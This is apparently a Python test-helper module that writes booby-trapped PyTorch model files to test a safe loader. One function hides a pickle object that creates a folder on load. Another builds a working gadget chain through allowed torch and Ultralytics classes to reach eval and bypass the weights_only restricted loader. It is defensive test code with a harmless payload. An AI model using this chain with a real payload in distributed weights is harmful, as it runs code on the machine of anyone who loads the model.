"""Weights as an attacker would write them: models that run code when a careless loader reads them."""

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.pollen.model_making import Bomb, write_model


def with_bomb(path: Path, harm: Path, place: str) -> None:
    """Write a model that makes the folder `harm` when its pickle is simply loaded."""
    import torch

    write_model(path)
    state: dict[str, Any] = torch.load(path, weights_only=False)
    bomb = Bomb(harm)
    if place == "layer":
        state["model"].model[0].note = bomb
    else:
        state[place] = bomb
    torch.save(state, path)


class _Call:
    """A call that PyTorch's restricted loader carries out: it checks the result, not the function."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:  # noqa: ANN401
        self._function, self._arguments = function, arguments

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        import torch

        rebuild: Any = torch._tensor._rebuild_from_type_v2
        return rebuild, (self._function, torch.nn.Threshold, self._arguments, {})


def _layer(
    kind: Any,  # noqa: ANN401
    before: tuple[Any, ...] = (),
    after: tuple[Any, ...] = (),
    **attributes: Any,  # noqa: ANN401
) -> Any:  # noqa: ANN401
    import torch

    layer = kind.__new__(kind)
    torch.nn.Module.__init__(layer)
    layer.__dict__.update(attributes)
    for number, hook in enumerate(before):
        layer._forward_pre_hooks[number] = hook
    for number, hook in enumerate(after):
        layer._forward_hooks[number] = hook
    return layer


def with_evaluation(path: Path, harm: Path) -> None:
    """Write a model whose layers lead from a function's globals to `eval`, through allowed classes only.

    PyTorch's `weights_only` with the classes that Ultralytics allows runs it (torch 2.15, Ultralytics
    8.4.190): it makes the folder `harm`.
    """
    import torch
    from torch import nn
    from ultralytics.nn.distill_model import FeatureHook
    from ultralytics.nn.modules import Index
    from ultralytics.utils import IterableSimpleNamespace

    module = nn.Module
    function = module.apply
    names = _layer(nn.ModuleDict)
    names._modules["__globals__"] = None
    setter = _layer(module, after=(nn.Threshold,), forward=module.set_submodule)
    give = _layer(nn.ModuleDict, before=(nn.ModuleDict.pop,), forward=nn.Identity().forward)
    give._modules[("",)] = function
    space = IterableSimpleNamespace(get_submodule=give)
    globals_of = _layer(nn.ModuleDict, before=(nn.ModuleDict.pop,), forward=module.get_buffer)
    globals_of._modules[("go",)] = (space, "__globals__")
    run = _layer(nn.Sequential)
    key: Any = "0"
    first = _layer(Index, index="__builtins__")
    second = _layer(Index, after=(FeatureHook(run._modules, key),), index="eval")
    chain = _layer(nn.Sequential, after=(nn.Threshold,))
    chain._modules.update({"0": globals_of, "1": first, "2": second})
    run._forward_hooks[0] = nn.Threshold
    code = f"__import__('os').mkdir({os.fspath(harm)!r})"
    steps = [
        _Call(module._call_impl, setter, function, "_buffers", names),
        _Call(module._call_impl, chain, "go"),
        _Call(module._call_impl, run, code),
    ]
    write_model(path)
    state: dict[str, Any] = torch.load(path, weights_only=False)
    torch.save({"note": steps, **state}, path)
